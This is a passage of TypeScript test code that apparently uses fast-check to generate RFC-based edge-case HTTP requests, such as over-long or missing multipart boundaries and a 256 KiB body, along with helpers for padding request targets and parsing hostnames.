      arb: fc.tuple(path, fc.integer({ min: 71, max: 300 })).map(([p, n]) => {
        const b = 'b'.repeat(n);
        return multipart(p, `multipart/form-data; boundary=${b}`, `${part(b, 'firmware')}--${b}--${CRLF}`);
      }),
    },
    {
      rule: 'multipart without boundary parameter',
      ref: 'RFC2046 5.1.1',
      arb: fc.tuple(path, tokenArb).map(([p, b]) => multipart(p, 'multipart/form-data', `${part(b, 'firmware')}--${b}--${CRLF}`)),
    },
    // ------------------------------------------------------ size limits [RFC9110 17.5]
    {
      rule: '256 KiB request body',
      ref: 'RFC9110 17.5',
      large: true,
      arb: fc.tuple(bodied, path, fc.constantFrom(0x00, 0x41, 0xff)).map(([m, p, fill]) => withLength(m, p, 'application/octet-stream', new Uint8Array(256 * KiB).fill(fill))),
    },
  ];
}

/** `path?pad=...` grown to exactly `size` characters of request-target. */
function padTarget(path: string, unit: string, size: number): string {
  const head = withQuery(path, 'pad=') + unit.repeat(Math.floor((size - path.length - 5) / unit.length));
  return head + 'a'.repeat(Math.max(0, size - head.length)); // never a cut-off %-escape
}

const hostname = (host: string) => (host.startsWith('[') ? host.slice(0, host.indexOf(']') + 1) : host.replace(/:\d*$/, ''));
